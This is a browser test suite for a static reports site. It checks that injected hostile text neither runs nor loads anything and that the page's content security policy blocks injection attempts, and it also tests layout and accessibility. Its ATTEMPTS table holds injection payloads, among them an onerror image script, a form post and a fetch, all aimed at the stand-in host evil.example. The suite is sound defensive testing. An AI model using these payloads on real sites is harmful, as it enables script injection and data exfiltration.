"""Report, indicator and check pages in a real browser; hostile text runs and loads nothing."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

from render.attack import CURRENT, VERSION, attacked_rows
from render.browsing import DESKTOP, PHONE, served, violations
from render.conftest import publish_rows, render_packages

pytestmark = pytest.mark.browser

MIRROR = "/reports/x-0123abcd-2020/"
LONG = "/reports/990101101-2020/"
PAGES = (
    "/",
    "/bodies/x-0123abcd/",
    f"/reports/{CURRENT}/",
    f"/reports/{VERSION}/",
    "/reports/990101-2021/",
    MIRROR,
    LONG,
    "/regions/",
    "/regions/990101/",
    "/indicators/requests.received.total/",
    "/indicators/requests.not_processed.petition.business/",
    "/checks/balance/",
    "/checks/injected-text/",
    "/data/",
)
LISTEN = """
window.violations = [];
document.addEventListener('securitypolicyviolation', event => {
  window.violations.push(event.effectiveDirective);
});
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Where the site of the hostile archive is served."""
    folder = tmp_path_factory.mktemp("hostile")
    render_packages(publish_rows(attacked_rows(), folder), folder / "site")
    with served(folder / "site") as host:
        yield host


def guarded(browser: Any, address: str, faults: list[str], **context: Any) -> Any:
    """A page that notes every message, dialog and request to another host; none gets out."""
    page = browser.new_context(**context).new_page()
    page.on("console", lambda message: faults.append(message.text))
    page.on("pageerror", lambda error: faults.append(str(error)))
    page.on("dialog", lambda dialog: faults.append(dialog.message))
    page.on("popup", lambda other: faults.append(other.url))

    def look(route: Any) -> None:
        if route.request.url.startswith((address, "data:")):
            route.continue_()
        else:
            faults.append(route.request.url)
            route.abort()

    page.route("**/*", look)
    return page


@pytest.fixture
def page(browser: Any, hostile: str) -> Iterator[Any]:
    """A desktop page on which nothing may go wrong."""
    faults: list[str] = []
    page = guarded(browser, hostile, faults, **DESKTOP)
    yield page
    page.context.close()
    assert faults == []


@pytest.fixture
def phone(browser: Any, hostile: str) -> Iterator[Any]:
    """The same on a phone."""
    faults: list[str] = []
    page = guarded(browser, hostile, faults, **PHONE)
    yield page
    page.context.close()
    assert faults == []


@pytest.mark.parametrize("path", PAGES)
def test_hostile_text_runs_nothing_loads_nothing_and_leads_nowhere(
    page: Any, hostile: str, path: str
) -> None:
    page.add_init_script(LISTEN)
    for language in ("", "/en"):
        page.goto(hostile + language + path)
        page.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true })")
        page.mouse.move(300, 400)
        page.keyboard.press("Tab")
        assert page.evaluate("window.ran") is None
        assert page.evaluate("window.violations") == []
        assert page.url == hostile + language + path
        foreign = page.evaluate(
            """() => [...document.querySelectorAll('a, area, [href], [src]')]
                 .map(one => one.href?.baseVal ?? one.href ?? one.src)
                 .filter(to => to && !to.startsWith(location.origin)
                               && !/^(data:image|https:.{2}example.org|mailto:nobody@example.org)/.test(to))"""
        )
        assert foreign == []
        assert page.title().count("__") == page.evaluate("document.title").count("__")


@pytest.mark.parametrize("path", PAGES)
def test_very_long_words_make_no_page_wider_than_a_phone(
    phone: Any, hostile: str, path: str
) -> None:
    for language in ("", "/en"):
        phone.goto(hostile + language + path)
        phone.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true })")
        assert phone.evaluate("document.documentElement.scrollWidth <= innerWidth"), language


ATTEMPTS = {
    "script-src-elem": "add('script', {textContent: 'window.ran = 1'})",
    "script-src-attr": "add('div', {innerHTML: '<img src=x onerror=\"window.ran=1\">'})",
    "style-src-elem": "add('style', {textContent: 'body{background:url(https://evil.example/)}'})",
    "style-src-attr": "document.body.setAttribute('style', 'background:url(//evil.example/)')",
    "img-src": "add('img', {src: 'https://evil.example/image.png'})",
    "frame-src": "add('iframe', {src: 'https://evil.example/frame'})",
    "object-src": "add('object', {data: 'https://evil.example/object'})",
    "form-action": "add('form', {action: 'https://evil.example/', method: 'post'}).submit()",
    "base-uri": "add('base', {href: 'https://evil.example/'})",
    "connect-src": "fetch('https://evil.example/connect').catch(() => 0)",
    "media-src": "add('video', {src: 'https://evil.example/video.mp4'})",
    "font-src": "new FontFace('f', 'url(https://evil.example/font)').load().catch(() => 0)",
    "worker-src": "try { new Worker('https://evil.example/w.js') } catch (error) { 0 }",
    "manifest-src": "add('link', {rel: 'manifest', href: 'https://evil.example/m.json'})",
}
SILENT = ("worker-src", "manifest-src")
"""A worker of another host is refused before the policy is asked; a manifest is never fetched."""


@pytest.mark.parametrize("directive", [name for name in ATTEMPTS if name not in SILENT])
@pytest.mark.parametrize("path", [f"/reports/{CURRENT}/", "/en/indicators/", "/404.html"])
def test_the_policy_blocks_what_might_get_in_all_the_same(
    browser: Any, hostile: str, path: str, directive: str
) -> None:
    """Each attempt is made by a script in the page, heard as a violation, and reaches nobody."""
    faults: list[str] = []
    page = guarded(browser, hostile, faults)
    page.add_init_script(LISTEN)
    page.goto(hostile + path)
    page.evaluate(
        f"""() => {{
          const add = (name, fields) => {{
            const made = Object.assign(document.createElement(name), fields);
            document.body.append(made);
            return made;
          }};
          {ATTEMPTS[directive]};
        }}"""
    )
    for _ in range(100):  # waiting in the page would need an eval, which the policy forbids too
        if directive in page.evaluate("window.violations"):
            break
        page.wait_for_timeout(50)
    assert directive in page.evaluate("window.violations")
    assert page.evaluate("window.ran") is None
    assert page.url == hostile + path
    assert [fault for fault in faults if fault.startswith("http")] == []
    page.context.close()


def test_folded_passages_are_closed_and_a_link_opens_them(page: Any, hostile: str) -> None:
    page.goto(hostile + MIRROR)
    fold = page.locator(".damage").first
    inner = fold.locator("mark").first
    assert fold.get_attribute("open") is None
    assert not inner.is_visible()
    page.locator(".note blockquote a").first.click()
    assert fold.get_attribute("open") is not None
    assert inner.is_visible()
    assert "不是报告原文" in page.locator(".warn").first.inner_text()


def test_a_cell_opens_the_fold_around_its_mark(page: Any, hostile: str) -> None:
    page.goto(hostile + MIRROR)
    page.locator("td[id^='t-disclosure'] a[href^='#c-']").first.click()
    assert page.locator(".damage").first.get_attribute("open") is not None
    assert page.locator("mark.lit").first.is_visible()


def test_folds_open_by_keyboard_and_without_script(browser: Any, hostile: str) -> None:
    page = browser.new_context(java_script_enabled=False).new_page()
    page.goto(hostile + MIRROR)
    summary = page.locator(".damage > summary").first
    assert "植入" in (summary.get_attribute("aria-label") or "")
    summary.focus()
    page.keyboard.press("Enter")
    assert page.locator(".damage[open]").count() == 1
    page.context.close()


def test_figure_and_mark_are_walked_by_keyboard_alone(page: Any, hostile: str) -> None:
    """Enter leads from the cell to its mark and back, with the caret; the other one is in sight."""
    page.goto(hostile + f"/reports/{CURRENT}/")
    cell = page.locator("[id='t-requests.received.total'] a[href^='#c-']").first
    cell.focus()
    mark = page.locator("mark.lit")
    assert mark.inner_text() == "4"
    assert in_sight(page, "mark.lit")
    page.keyboard.press("Enter")
    page.locator("mark:focus-within").wait_for()
    assert page.evaluate("document.activeElement.textContent") == "4"
    assert in_sight(page, "td.lit")
    page.keyboard.press("Enter")
    page.locator("td:focus-within").wait_for()
    assert page.evaluate("document.activeElement.closest('td').id") == "t-requests.received.total"
    page.keyboard.press("Enter")
    page.locator("mark:focus-within").wait_for()


def in_sight(page: Any, selector: str) -> bool:
    """Whether an element lies within its pane and within the window."""
    seen: bool = page.evaluate(
        """selector => {
          const one = document.querySelector(selector);
          const box = one.getBoundingClientRect();
          const pane = one.closest('.archived--whole, .twain__pane').getBoundingClientRect();
          return box.top >= pane.top - 1 && box.bottom <= pane.bottom + 1
            && box.top >= 0 && box.bottom <= innerHeight;
        }""",
        selector,
    )
    return seen


@pytest.mark.parametrize("name", ["requests.received.total", "proceedings.reconsideration.total"])
def test_both_panes_are_in_sight_on_a_phone(phone: Any, hostile: str, name: str) -> None:
    phone.goto(hostile + f"/reports/{CURRENT}/#t-{name}")
    phone.locator("mark.lit").wait_for()
    phone.wait_for_timeout(100)
    assert in_sight(phone, "td.lit")
    assert in_sight(phone, "mark.lit")


def test_a_text_of_more_than_100_000_characters_stays_usable(page: Any, hostile: str) -> None:
    page.goto(hostile + LONG)
    text = page.locator(".archived--whole")
    assert page.evaluate("document.querySelector('.archived--whole').textContent.length") > 100_000
    assert page.evaluate("document.documentElement.scrollHeight") < 20_000
    began = page.evaluate("performance.now()")
    page.locator("td[id^='t-proceedings'] a[href^='#c-']").last.click()
    page.locator("mark:focus-within").wait_for()
    assert in_sight(page, "mark.lit")
    assert page.evaluate("performance.now()") - began < 3_000
    page.get_by_role("button", name="通读全文").click()
    assert page.evaluate("document.documentElement.scrollHeight") > 20_000
    page.get_by_role("button", name="并排").click()
    assert text.evaluate("one => one.clientHeight") < 1_000


def test_characters_that_turn_the_writing_are_signs(page: Any, hostile: str) -> None:
    page.goto(hostile + f"/reports/{CURRENT}/")
    text = page.evaluate("document.documentElement.textContent")
    assert "\ufffd" in text
    assert not any(sign in text for sign in "\u202e\u2066\u200f\u061c\u2028\u0085")


@pytest.mark.parametrize(
    "path",
    [
        f"/reports/{CURRENT}/",
        f"/reports/{VERSION}/",
        MIRROR,
        "/indicators/requests.received.total/",
        "/checks/balance/",
    ],
)
def test_axe_finds_nothing(browser: Any, hostile: str, path: str) -> None:
    context = browser.new_context()
    page = context.new_page()
    for language in ("", "/en"):
        page.goto(hostile + language + path)
        page.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true })")
        assert violations(page) == [], language
    context.close()
